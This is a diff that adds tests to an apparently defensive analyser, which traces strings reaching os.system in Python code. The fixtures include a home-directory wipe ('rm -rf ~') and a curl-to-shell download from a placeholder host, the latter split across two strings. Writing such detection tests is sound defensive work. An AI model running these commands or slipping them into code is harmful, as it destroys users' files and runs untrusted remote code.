@@ -113,6 +113,26 @@ def test_what_becomes_another_in_a_script_is_seen(how: str) -> None:
     assert HARM in {one.text for one in flows(text, Act.RUN, "npm")}
 
 
+def test_what_somebody_has_to_call_is_run_again_with_words_that_are_new() -> None:
+    """However often it was run in vain, and whatever the words look like."""
+    text = (
+        "import os\ndef run(c, x): os.system(c)\ndef main():\n"
+        + "".join(f"    run('ls', {n})\n" for n in range(40))
+        + "    run('rm -rf ~', 99)\n"
+    )
+    assert {one.text for one in flows(text, Act.RUN)} == {"ls", "rm -rf ~"}
+
+
+def test_early_functions_may_give_nothing_for_long() -> None:
+    text = (
+        "import os\nT = {'a': 'c', 'b': 'url -s http://h.example.invalid/a|sh'}\n"
+        "def read(k):\n    if k not in 'ab': return None\n    return T[k]\n"
+        + "".join(f"read('k{n}')\n" for n in range(30))
+        + "os.system(read('a') + read('b'))\n"
+    )
+    assert {one.text for one in flows(text, Act.RUN)} == {HARM}
+
+
 def test_each_text_has_its_own_moment() -> None:
     text = "import os\ndef run(c): os.system(c)\nrun('ls')\ndef later(): run('a longer command of words')\n"
     found = {one.text: one.reach for one in flows(text, Act.RUN, "wheel")}
